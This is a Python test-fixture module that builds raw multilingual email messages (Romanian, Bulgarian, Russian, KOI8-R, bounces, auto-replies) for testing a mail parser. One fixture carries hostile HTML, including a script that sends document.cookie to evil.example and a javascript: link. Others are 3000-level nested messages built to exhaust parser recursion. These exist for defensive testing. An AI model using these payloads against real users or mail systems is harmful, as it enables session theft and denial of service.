# ruff: noqa: RUF001 -- Romanian, Bulgarian and Russian mail is written in its own letters
"""Real multilingual messages as raw RFC 5322 bytes, the way mail clients send them.

Encoded parts are produced with the stdlib codecs (base64, quoted-printable) from the
exact text each test expects back, so a test compares against the original words.
"""

from __future__ import annotations

import base64
import quopri
from email.header import Header

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")

RO_SUBJECT = "Cerere ofertă: uşi şi ferestre pentru Braşov"
RO_BODY = "Bună ziua,\n\naş dori o ofertă pentru 12 uşi din lemn şi 4 ferestre.\n" \
          "Mulţumesc frumos,\nIon Popescu\n"
BG_SUBJECT = "Запитване за оферта – офис в София"
BG_BODY = "Здравейте,\n\nбихме искали оферта за обзавеждане на офис с 20 работни места.\n" \
          "Поздрави,\nМария Иванова\n"
BG_FILENAME = "оферта-спецификация.pdf"
RU_SUBJECT = "Прайс-лист и условия поставки"
RU_BODY = "Добрый день!\n\nПришлите, пожалуйста, прайс-лист и условия доставки в Кишинёв.\n" \
          "С уважением,\nСергей Кузнецов\n"
RU_FILENAME = "Реквизиты компании.png"
KOI_SUBJECT = "Счёт на оплату N 17 от завода"
KOI_TEXT = "Здравствуйте! Счёт во вложении, ждём оплату до пятницы."


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def _qp(text: str, charset: str) -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def _subject(text: str, charset: str) -> str:
    return Header(text, charset).encode()


def romanian_qp() -> bytes:
    """ISO-8859-2, quoted-printable body, RFC 2047 Q-encoded subject and sender name."""
    return f"""\
From: =?ISO-8859-2?Q?Ion_Popescu_=AA.R.L.?= <ion.popescu@lemnaria.ro>
To: vanzari@kontora.example
Subject: {_subject(RO_SUBJECT, "iso-8859-2")}
Date: Mon, 23 Nov 2026 09:15:00 +0200
Message-ID: <ro-1@lemnaria.ro>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-2
Content-Transfer-Encoding: quoted-printable

{_qp(RO_BODY, "iso-8859-2")}""".replace("\n", "\r\n").encode("ascii")


def bulgarian_base64_with_pdf() -> bytes:
    """UTF-8, base64 text, a PDF whose name is an RFC 2231 parameter (``filename*``)."""
    encoded_name = "".join(f"%{b:02X}" for b in BG_FILENAME.encode("utf-8"))
    return f"""\
From: {_subject("Мария Иванова", "utf-8")} <maria@ofis-sofia.bg>
To: vanzari@kontora.example
Subject: {_subject(BG_SUBJECT, "utf-8")}
Date: Mon, 23 Nov 2026 10:00:00 +0200
Message-ID: <bg-1@ofis-sofia.bg>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="bg-boundary"

--bg-boundary
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

{_b64(BG_BODY.encode("utf-8"))}
--bg-boundary
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''{encoded_name}
Content-Transfer-Encoding: base64

{_b64(PDF)}
--bg-boundary--
""".replace("\n", "\r\n").encode("ascii")


def russian_1251_with_image() -> bytes:
    """windows-1251 8-bit text, base64 subject, an image whose quoted name holds an RFC 2047
    encoded word (as Outlook and many webmails write it)."""
    body = RU_BODY.replace("\n", "\r\n").encode("windows-1251")
    name = Header(RU_FILENAME, "utf-8").encode()
    head = f"""\
From: {_subject("Сергей Кузнецов", "windows-1251")} <s.kuznetsov@torg.md>
To: vanzari@kontora.example
Subject: {_subject(RU_SUBJECT, "windows-1251")}
Date: Tue, 24 Nov 2026 08:30:00 +0300
Message-ID: <ru-1@torg.md>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="ru-boundary"

--ru-boundary
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: 8bit

""".replace("\n", "\r\n").encode("ascii")
    tail = f"""
--ru-boundary
Content-Type: image/png; name="{name}"
Content-Disposition: attachment; filename="{name}"
Content-Transfer-Encoding: base64

{_b64(PNG)}
--ru-boundary--
""".replace("\n", "\r\n").encode("ascii")
    return head + body + tail


def koi8r_alternative() -> bytes:
    """KOI8-R text and HTML alternatives, quoted-printable."""
    html = f"<html><body><p><b>{KOI_TEXT}</b></p></body></html>"
    return f"""\
From: Бухгалтерия <buh@zavod.ru>
To: vanzari@kontora.example
Subject: {_subject(KOI_SUBJECT, "koi8-r")}
Date: Tue, 24 Nov 2026 11:00:00 +0300
Message-ID: <koi-1@zavod.ru>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=KOI8-R
Content-Transfer-Encoding: quoted-printable

{_qp(KOI_TEXT, "koi8-r")}
--alt
Content-Type: text/html; charset=KOI8-R
Content-Transfer-Encoding: quoted-printable

{_qp(html, "koi8-r")}
--alt--
""".replace("Бухгалтерия", _subject("Бухгалтерия", "koi8-r")).replace("\n", "\r\n") \
        .encode("ascii")


def html_only_hostile() -> bytes:
    """An HTML-only message with a script, an event handler, a javascript: link and a
    tracking pixel."""
    html = """<html><head><style>p{color:red}</style><script>alert('head')</script></head>
<body><p onclick="steal()">Vă rugăm să ne trimiteți <b>oferta</b> până vineri.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<ul><li>10 mese</li><li>40 scaune</li></ul>
<a href="javascript:alert(1)">click</a> <a href="https://shop.example/cart">coș</a>
<img src="https://tracker.example/pixel.gif?id=42" width="1" height="1">
<iframe src="https://evil.example/"></iframe></body></html>"""
    return f"""\
From: Elena Dumitru <elena@mobila-cluj.ro>
To: vanzari@kontora.example
Subject: Mese si scaune
Date: Tue, 24 Nov 2026 12:00:00 +0200
Message-ID: <html-1@mobila-cluj.ro>
MIME-Version: 1.0
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: base64

{_b64(html.encode("utf-8"))}""".replace("\n", "\r\n").encode("ascii")


def plain(sender: str, subject: str, body: str, message_id: str, *,
          in_reply_to: str | None = None, references: str | None = None,
          extra: str = "") -> bytes:
    """A short UTF-8 message, its subject and sender name encoded when not ASCII."""
    subject_header = subject if subject.isascii() else _subject(subject, "utf-8")
    name, _, address = sender.partition(" <")
    if not name.isascii():
        sender = f"{_subject(name, 'utf-8')} <{address}"
    lines = [f"From: {sender}", "To: vanzari@kontora.example",
             f"Subject: {subject_header}", "Date: Tue, 24 Nov 2026 13:00:00 +0200",
             f"Message-ID: {message_id}", "MIME-Version: 1.0",
             "Content-Type: text/plain; charset=UTF-8",
             "Content-Transfer-Encoding: base64"]
    if in_reply_to:
        lines.append(f"In-Reply-To: {in_reply_to}")
    if references:
        lines.append(f"References: {references}")
    if extra:
        lines.extend(extra.strip().splitlines())
    return ("\r\n".join(lines) + "\r\n\r\n" + _b64(body.encode("utf-8"))
            .replace("\n", "\r\n")).encode("ascii")


def auto_reply() -> bytes:
    return plain("Ion Popescu <ion.popescu@lemnaria.ro>", "Absent din birou",
                 "Sunt în concediu până luni.", "<ooo-1@lemnaria.ro>",
                 extra="Auto-Submitted: auto-replied\nX-Autoreply: yes")


def newsletter() -> bytes:
    return plain("Magazin <news@magazin.example>", "Reduceri de iarnă -30%",
                 "Vezi ofertele săptămânii.", "<news-1@magazin.example>",
                 extra="Precedence: bulk\nList-Unsubscribe: <https://magazin.example/unsub>\n"
                       "List-Id: Noutati <noutati.magazin.example>")


def no_reply() -> bytes:
    return plain("Courier <no-reply@curier.example>", "Coletul dvs. a fost livrat",
                 "Colet AWB 123 livrat.", "<awb-1@curier.example>")


def bounce() -> bytes:
    """A delivery status notification (RFC 3464) from the mailer daemon."""
    return b"""\
From: Mail Delivery System <MAILER-DAEMON@mx.kontora.example>
To: vanzari@kontora.example
Subject: Undelivered Mail Returned to Sender
Date: Tue, 24 Nov 2026 14:00:00 +0200
Message-ID: <bounce-1@mx.kontora.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"

--dsn
Content-Type: text/plain; charset=us-ascii

The mail could not be delivered to <nobody@nowhere.example>.
--dsn
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.kontora.example
Final-Recipient: rfc822; nobody@nowhere.example
Action: failed
Status: 5.1.1
--dsn--
""".replace(b"\n", b"\r\n")


# --- poisoned mail: messages that once stopped the mailbox ----------------------------------


def nested_multipart(depth: int = 3000, message_id: str = "<deep-1@attacker.example>") -> bytes:
    """A multipart nested ``depth`` levels deep: the stdlib parser runs out of recursion."""
    head = (f"From: Deep Nest <deep@attacker.example>\r\nTo: vanzari@kontora.example\r\n"
            f"Subject: Nested {depth} deep\r\nMessage-ID: {message_id}\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: multipart/mixed; boundary=b0\r\n\r\n")
    body = "".join(f"--b{n}\r\nContent-Type: multipart/mixed; boundary=b{n + 1}\r\n\r\n"
                   for n in range(depth))
    return (head + body + f"--b{depth}\r\nContent-Type: text/plain\r\n\r\nhi\r\n").encode()


def nested_forwards(depth: int = 3000) -> bytes:
    """A forward of a forward of ... ``depth`` times, each an attached ``message/rfc822``."""
    inner = b"From: x@attacker.example\r\nSubject: innermost\r\n\r\nhi\r\n"
    prefix = b"MIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
    return (b"From: =?utf-8?B?0KTQvtGA0LLQsNGA0LQ=?= <fwd@attacker.example>\r\n"
            b"To: vanzari@kontora.example\r\nSubject: Fwd x3000\r\n"
            b"Message-ID: <fwd-1@attacker.example>\r\n" + prefix * depth + inner)


def eight_bit_display_name() -> bytes:
    """A display name and subject in raw UTF-8 bytes, no RFC 2047 (some webmails send it)."""
    return ("From: Мария Иванова <maria.8bit@ofis-sofia.bg>\r\nTo: vanzari@kontora.example\r\n"
            "Subject: Оферта за бюра\r\nMessage-ID: <8bit-1@ofis-sofia.bg>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
            "Здравейте, изпратете оферта.\r\n").encode()


def broken_encoded_words() -> bytes:
    """An unterminated encoded word in the subject and one with bad padding in the name."""
    return (b"From: =?utf-8?B?0JjQstCw0L0g0J/QtdGC0YDQvtCy?= <ivan@stroy.bg>\r\n"
            b"To: vanzari@kontora.example\r\n"
            b"Subject: =?utf-8?B?0JfQsNC/0LjRgtCy0LDQvdC1?= =?utf-8?B?INC30LAg0L7RhNC10YDRgtCw\r\n"
            b"Message-ID: <broken-words-1@stroy.bg>\r\nContent-Type: text/plain; charset=utf-8\r\n"
            b"\r\nText\r\n")


NAMED_FILES = {"Договор - проект 2026.pdf": ("application/pdf", PDF),
               "бележки за срещата.txt": ("text/plain", "Среща в 10:00\n".encode()),
               "Пересланное письмо.eml": ("message/rfc822", b"")}


def named_files() -> bytes:
    """A PDF, a text file and a forwarded message whose names hold Cyrillic, dashes and
    spaces (RFC 2231 ``filename*``)."""
    forwarded = romanian_qp()
    parts = []
    for name, (ctype, data) in NAMED_FILES.items():
        encoded = "".join(f"%{b:02X}" for b in name.encode("utf-8"))
        if ctype == "message/rfc822":
            parts.append(f"--files\r\nContent-Type: message/rfc822\r\n"
                         f"Content-Disposition: attachment; filename*=UTF-8''{encoded}\r\n\r\n"
                         + forwarded.decode("ascii") + "\r\n")
        else:
            parts.append(f"--files\r\nContent-Type: {ctype}\r\n"
                         f"Content-Disposition: attachment; filename*=UTF-8''{encoded}\r\n"
                         f"Content-Transfer-Encoding: base64\r\n\r\n"
                         + _b64(data).replace("\n", "\r\n"))
    head = ("From: Olga <olga@mebel.md>\r\nTo: vanzari@kontora.example\r\n"
            "Subject: Files\r\nMessage-ID: <files-1@mebel.md>\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=files\r\n\r\n"
            "--files\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the files.\r\n")
    return (head + "".join(parts) + "--files--\r\n").encode("ascii")
